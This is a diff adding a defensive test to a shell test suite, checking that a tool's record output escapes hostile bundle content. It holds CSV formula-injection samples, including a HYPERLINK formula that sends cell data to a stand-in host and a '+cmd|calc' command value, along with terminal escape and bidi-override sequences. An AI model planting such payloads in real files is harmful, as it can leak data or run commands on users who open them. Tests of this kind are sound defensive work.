@@ -236,6 +236,49 @@ assert [(r["endpoint"], r["step"], r["status"]) for r in rows] == cases, rows[:2
 assert [(s["endpoint"], st["name"], st["status"]) for s in doc["suites"] for st in s["steps"]] == cases
 assert doc["intact"] is True and doc["verdict"] == rows[0]["verdict"]
 PY
+# A sealed bundle full of what a hostile server or operator could put in it: record escapes it for the
+# terminal, keeps every CSV cell from starting a formula, and writes valid JSON.
+# (outside $work: a hand-made junit.xml is no output of sftpdrill's for the suite's schema check)
+hb=$(mktemp -d "$work.hostile.XXXXXX")
+/usr/bin/python3 - "$hb" <<'PY'
+import sys, os
+d = sys.argv[1]
+evil = '=HYPERLINK("http://x/?"&A1,"click") \x1b[31mred\x1b[0m \u202eevil\u202c \x07'
+def x(s):  # as XML text: & < > " escaped, the C0 controls XML 1.0 allows none of written as they would be... not at all
+    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("\x1b", "&#x1b;").replace("\x07", "")
+open(os.path.join(d, "junit.xml"), "w").write(f"""<?xml version="1.0" encoding="UTF-8"?>
+<testsuites name="t"><testsuite name="d @ h:1" tests="2" failures="1" errors="0" skipped="0" time="0">
+<properties><property name="drill" value="d"/><property name="endpoint" value="h:1"/><property name="user" value="{x('@SUM(1+1)')}"/>
+<property name="target" value="{x('+cmd|calc')}"/></properties>
+<testcase name="{x(evil)}" classname="d" time="0"/>
+<testcase name="-2+3" classname="d" time="0"><failure type="CountMismatch" message="{x(evil)}">{x(evil)}</failure></testcase>
+</testsuite></testsuites>
+""".replace("&#x1b;", "\u241b"))
+open(os.path.join(d, "RUN-INFO"), "w").write("operator: \x1b]0;pwned\x07eve\u202e\nstarted: 2023-04-15T06:45:00Z\nverdict: NOT ALL STEPS PASSED\n")
+PY
+( cd "$hb" && sha256sum junit.xml RUN-INFO | sort -k2 > MANIFEST )
+"$bin" record "$hb" > "$work/hostile.txt" 2>&1; rc1=$?
+"$bin" record --format csv "$hb" > "$work/hostile.csv" 2>&1; rc2=$?
+"$bin" record --format json "$hb" > "$work/hostile.json" 2>&1; rc3=$?
+expect "record of hostile content: no control or bidi byte reaches the terminal, no CSV cell starts a formula, the JSON parses" \
+  /usr/bin/python3 - "$work/hostile.txt" "$work/hostile.csv" "$work/hostile.json" "$rc1$rc2$rc3" <<'PY'
+import csv, json, sys
+assert sys.argv[4] == "000", sys.argv[4]
+text = open(sys.argv[1], encoding="utf-8").read()
+assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, repr(text)
+assert "\\x1b]0;pwned" in text and "\\u202e" in text, text
+rows = list(csv.reader(open(sys.argv[2], encoding="utf-8")))
+for row in rows[1:]:
+    for cell in row:
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (cell, row)
+assert any(c.startswith("'=HYPERLINK") for r in rows for c in r) and any(c == "'@SUM(1+1)" for r in rows for c in r)
+assert any(c == "'-2+3" for r in rows for c in r)
+raw = open(sys.argv[3], encoding="utf-8").read()
+doc = json.loads(raw)
+assert all(ord(ch) >= 0x20 for ch in raw.strip()), "a raw control character in the JSON"
+assert doc["suites"][0]["steps"][1]["name"] == "-2+3" and doc["verdict"] == "NOT ALL STEPS PASSED"
+PY
+rm -rf "$hb"
 cp -a "$rb" "$work/record-tampered"; printf 'X' | dd of="$work/record-tampered/RUN-INFO" bs=1 seek=3 conv=notrunc 2>/dev/null
 out=$("$bin" record "$work/record-tampered" 2>"$work/record.err"); rc=$?
 expect "... but no record from a bundle that is not intact (exit 1, nothing on stdout)" \
